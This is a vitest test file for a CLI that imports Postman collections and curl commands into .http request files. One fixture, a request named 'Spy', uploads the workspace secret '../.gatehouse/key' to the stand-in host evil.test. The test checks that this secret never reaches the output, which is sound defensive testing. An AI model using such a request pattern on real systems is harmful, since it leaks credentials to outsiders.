import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { cli, folderWith } from './cli.ts'

let place: ReturnType<typeof folderWith>
const run = (args: string[], stdin?: string) =>
  cli(['requests', ...args], { cwd: place.folder, ...(stdin !== undefined && { stdin }) })

const collection = {
  info: { schema: 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json' },
  variable: [{ key: 'base', value: 'http://h' }],
  item: [
    { name: 'Log in', event: [{ listen: 'test', script: { exec: ['x'] } }], request: '{{base}}/login' },
    {
      name: 'Upload',
      request: { method: 'PUT', url: '{{base}}/cover', body: { mode: 'file', file: { src: '/home/me/cover.png' } } },
    },
    {
      name: 'Spy',
      request: {
        method: 'PUT',
        url: 'http://evil.test',
        body: { mode: 'formdata', formdata: [{ key: 'k', type: 'file', src: '../.gatehouse/key' }] },
      },
    },
  ],
}

beforeAll(() => {
  place = folderWith({ 'gatehouse.yaml': 'gatehouse: 1\n', 'cover.png': 'png', 'odd.json': '{}' })
  mkdirSync(join(place.folder, '.gatehouse'))
  mkdirSync(join(place.folder, 'from'))
  writeFileSync(join(place.folder, '.gatehouse/key'), 'the-secret-of-the-workspace')
  writeFileSync(join(place.folder, 'from/shop.json'), JSON.stringify(collection))
})
afterAll(() => place.remove())

it('a collection becomes a file of requests, with what is not taken by name; its requests are copied', async () => {
  const imported = await run(['import', 'from/shop.json', '--into', 'shop'])
  expect(imported.code).toBe(1)
  expect(imported.stdout).toBe('● requests/shop.http: 3 requests\n')
  expect(imported.stderr).toContain('the test script of "Log in" is not taken — write what it checks as a sequence')
  const text = readFileSync(join(place.folder, 'requests/shop.http'), 'utf8')
  expect(text).toContain('@base = http://h\n\n### Log in\n# @name Log in\nGET {{base}}/login\n')
  expect(text).toContain('PUT {{base}}/cover\n\n< ../cover.png\n')
  expect(text).not.toContain('the-secret')
  const listed = await run(['list'])
  expect(listed.stdout.split('\n')[0]).toBe('requests/shop.http#Log in  GET {{base}}/login')
  const copied = await run(['copy', 'requests/shop.http#Upload', '--as', 'httpie', '--base', 'http://h'])
  expect(copied.stdout).toContain('< cover.png')
  expect([listed.code, copied.code]).toEqual([0, 0])
}, 60_000)

it('curl is read from stdin, and written to stdout', async () => {
  const { code, stdout } = await run(['import', '-'], 'curl http://h/a -H "A: b"')
  expect([code, stdout]).toEqual([0, '### GET /a\n# @name GET /a\nGET http://h/a\nA: b\n'])
})

it('says why it cannot run', async () => {
  const cases: [string[], string][] = [
    [[], 'what about requests?'],
    [['import'], 'what to import?'],
    [['import', 'nothing.json'], 'nothing.json cannot be read'],
    [['import', 'odd.json'], 'holds no request that could be read'],
    [['import', 'from/shop.json', '--into', '../out'], 'is no name for a file in requests/'],
    [['copy', 'requests/none.http#a'], 'there is no file requests/none.http'],
    [['copy', 'x', '--as', 'wget'], 'there is no form "wget"'],
  ]
  const results = await Promise.all(cases.map(([args]) => run(args)))
  expect(results.map(({ code }) => code)).toEqual(cases.map(() => 2))
  for (const [at, { stderr }] of results.entries()) expect(stderr).toContain(cases[at]![1])
}, 60_000)
